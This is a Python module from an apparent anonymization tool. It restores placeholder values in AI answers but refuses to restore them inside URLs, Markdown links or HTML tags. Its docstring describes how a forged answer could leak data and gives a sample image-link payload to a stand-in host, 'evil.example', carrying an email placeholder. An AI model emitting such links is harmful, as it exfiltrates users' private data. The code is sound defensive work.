"""Put the real values back into an AI tool's answer, except where they would leave the machine.

Only placeholders issued by the conversation's vault are restored; "[PERSONNE_9]" or a placeholder
the user typed stays as it is. A forged answer can try to smuggle a value out through a link that
the chat page loads or the user clicks (``![x](https://evil.example/?d=[EMAIL_1])``), so nothing is
restored inside a URL, a Markdown link or image target, or an HTML tag (``href``, ``src``, ...).

One left-to-right scanner does both the whole-text and the streamed restore: ``restore`` is one
``feed`` and a ``flush``, so a streamed answer gives exactly the same text whatever its chunking.
Where a placeholder sits is decided by the text before it only, which is why a stream never needs to
hold back more than a possible placeholder prefix. Linear in the text size: compiled regexes jump
from one meaningful character to the next, and each placeholder is one dictionary look-up.
"""

import re
from enum import Enum, auto

from anonymizer.vault import PLACEHOLDER_PATTERN, Vault

# A text that may still grow into a placeholder: "[", "[PERS", "[PERSONNE_1".
_PLACEHOLDER_PREFIX = re.compile(r"\[(?:[A-Z][A-Z0-9_]*)?")

# Characters that matter in running text, outside any link.
_TEXT_EVENTS = re.compile(
    r"(?P<candidate>\[)"  # a placeholder may start here
    r"|(?P<target>(?<=\])\()"  # "](": a Markdown link or image target opens
    r"|(?P<tag>(?<=<)[A-Za-z/!?])"  # "<a", "</", "<!": an HTML tag (or autolink) opens
    r"|(?P<link>(?<=:/)/|(?<=[Ww]{3})\.)"  # "://" or "www.": the word is a URL
    r"|(?P<scheme>:)"  # "mailto:", "javascript:" ... (checked on the text before)
    r"|(?P<path>[/?#])"  # "evil.com/", "1.2.3.4?" ... (checked on the text before)
)
# Inside a word that is a URL: only its end and the openers that can span spaces matter.
_LINK_WORD_EVENTS = re.compile(
    r"(?P<space>[ \t\n\r\f\v])|(?P<target>(?<=\])\()|(?P<tag>(?<=<)[A-Za-z/!?])"
)
# A link target may go on over a line break (CommonMark), never over a blank line.
_TARGET_EVENTS = re.compile(r"(?P<newline>\n)|(?P<open>\()|(?P<close>\))|(?P<angle><)")
_TARGET_ANGLE_EVENTS = re.compile(r"(?P<newline>\n)|(?P<close>>)")
_TAG_EVENTS = re.compile(r"(?P<close>>)|(?P<quote>[\"'])")
_TAG_DOUBLE_QUOTED_EVENTS = re.compile(r"(?P<close>\")")
_TAG_SINGLE_QUOTED_EVENTS = re.compile(r"(?P<close>')")

# Checked on the text just before a ":" / "/" / quote. Each fits in _LOOKBEHIND characters.
_SCHEME_BEFORE = re.compile(r"(?i:mailto|javascript|vbscript|data|file)\Z")
_HOST_BEFORE = re.compile(
    r"(?:[\w-]\.[A-Za-z]{2,63}|\d{1,3}\.\d{1,3}\.\d{1,3}\.\d{1,3})(?::\d{1,5})?\Z"
)
_ATTRIBUTE_EQUALS_BEFORE = re.compile(r"=[ \t\n\r\f]{0,16}\Z")
_LINE_BREAK_BEFORE = re.compile(r"\n[ \t\r\f\v]{0,32}\Z")
_LOOKBEHIND = 80
_RECENT = _LOOKBEHIND + 16  # processed text kept from one chunk to the next


class _Mode(Enum):
    TEXT = auto()
    TARGET = auto()
    TARGET_ANGLE = auto()
    TAG = auto()
    TAG_DOUBLE_QUOTED = auto()
    TAG_SINGLE_QUOTED = auto()


_MODE_EVENTS = {
    _Mode.TARGET: _TARGET_EVENTS,
    _Mode.TARGET_ANGLE: _TARGET_ANGLE_EVENTS,
    _Mode.TAG: _TAG_EVENTS,
    _Mode.TAG_DOUBLE_QUOTED: _TAG_DOUBLE_QUOTED_EVENTS,
    _Mode.TAG_SINGLE_QUOTED: _TAG_SINGLE_QUOTED_EVENTS,
}


def restore(text: str, vault: Vault) -> str:
    """The answer with this vault's placeholders replaced by their real values (outside links)."""
    if "[" not in text or not len(vault):
        return text
    restorer = StreamRestorer(vault)
    return restorer.feed(text) + restorer.flush()


class StreamRestorer:
    """Restore a streamed answer chunk by chunk; the outputs joined equal ``restore`` of the whole.

    Held-back bound: ``feed`` releases everything except, at the end of the text received so far, a
    possible placeholder prefix in running text ("[" followed by upper-case letters, digits and
    "_") that is at most ``vault.longest_placeholder - 1`` characters long. "[" followed by anything
    else is released at once, and nothing at all is held when the vault has issued nothing.
    ``flush`` releases what is held (an unfinished placeholder stays as it was written) and makes
    the restorer ready for a new stream. Link context (a URL, link target or tag opened in an earlier
    chunk) is carried from chunk to chunk.
    """

    def __init__(self, vault: Vault) -> None:
        self._vault = vault
        self._reset()

    def feed(self, chunk: str) -> str:
        """Restore what can be decided in this chunk; keep back a possible placeholder prefix."""
        return self._run(chunk, final=False)

    def flush(self) -> str:
        """End of the stream: release the rest and start over."""
        rest = self._run("", final=True)
        self._reset()
        return rest

    def _reset(self) -> None:
        self._recent = ""  # processed text, kept for look-behind only
        self._pending = ""  # received, not processed: a possible placeholder prefix
        self._mode = _Mode.TEXT
        self._link_word = False  # the current word (up to ASCII whitespace) is a URL
        self._link_word_outside = False  # the same, saved while inside a link target or a tag
        self._depth = 0  # open parentheses in a Markdown link target

    def _run(self, chunk: str, *, final: bool) -> str:
        work = self._recent + self._pending + chunk
        out: list[str] = []
        emitted = position = len(self._recent)
        stop = len(work)
        while (event := self._events().search(work, position)) is not None:
            start = event.start()
            position = event.end()
            if event.lastgroup != "candidate":
                self._advance(event.lastgroup, work, start)
            elif (placeholder := PLACEHOLDER_PATTERN.match(work, start)) is not None:
                value = self._vault.value_for(placeholder.group())
                if value is not None:
                    out += (work[emitted:start], value)
                    emitted = position = placeholder.end()
            elif not final and self._may_become_placeholder(work, start):
                stop = start
                break
        out.append(work[emitted:stop])
        self._recent = work[max(0, stop - _RECENT) : stop]
        self._pending = work[stop:]
        return "".join(out)

    def _may_become_placeholder(self, work: str, start: int) -> bool:
        held = len(work) - start
        return (
            held < self._vault.longest_placeholder
            and _PLACEHOLDER_PREFIX.fullmatch(work, start) is not None
        )

    def _events(self) -> re.Pattern[str]:
        if self._mode is _Mode.TEXT:
            return _LINK_WORD_EVENTS if self._link_word else _TEXT_EVENTS
        return _MODE_EVENTS[self._mode]

    def _advance(self, kind: str | None, work: str, at: int) -> None:
        """Move the link context past one meaningful character of the answer."""
        mode = self._mode
        if mode is _Mode.TEXT:
            self._advance_text(kind, work, at)
        elif mode is _Mode.TARGET:
            self._advance_target(kind, work, at)
        elif mode is _Mode.TARGET_ANGLE:
            if kind == "newline":
                self._leave(link_word=False)
            else:
                self._mode = _Mode.TARGET
        elif mode is _Mode.TAG:
            if kind == "close":
                self._leave(link_word=self._link_word_outside)
            elif _ATTRIBUTE_EQUALS_BEFORE.search(work, max(0, at - _LOOKBEHIND), at):
                quoted_by_double = work[at] == '"'
                self._mode = (
                    _Mode.TAG_DOUBLE_QUOTED if quoted_by_double else _Mode.TAG_SINGLE_QUOTED
                )
        else:  # a quoted attribute value closes
            self._mode = _Mode.TAG

    def _advance_text(self, kind: str | None, work: str, at: int) -> None:
        window = max(0, at - _LOOKBEHIND)
        before = work[at - 1 : at]  # cheap pre-check before the look-behind searches
        if kind == "space":
            self._link_word = False
        elif kind in ("target", "tag"):
            self._link_word_outside = self._link_word
            self._mode = _Mode.TARGET if kind == "target" else _Mode.TAG
            self._depth = 1
        elif (
            kind == "link"
            or (kind == "scheme" and before.isalpha() and _SCHEME_BEFORE.search(work, window, at))
            or (kind == "path" and before.isalnum() and _HOST_BEFORE.search(work, window, at))
        ):
            self._link_word = True

    def _advance_target(self, kind: str | None, work: str, at: int) -> None:
        if kind == "newline":
            if _LINE_BREAK_BEFORE.search(work, max(0, at - _LOOKBEHIND), at):
                self._leave(link_word=False)
        elif kind == "open":
            self._depth += 1
        elif kind == "angle":
            self._mode = _Mode.TARGET_ANGLE
        else:
            self._depth -= 1
            if self._depth == 0:
                self._leave(link_word=self._link_word_outside)

    def _leave(self, *, link_word: bool) -> None:
        self._mode = _Mode.TEXT
        self._link_word = link_word
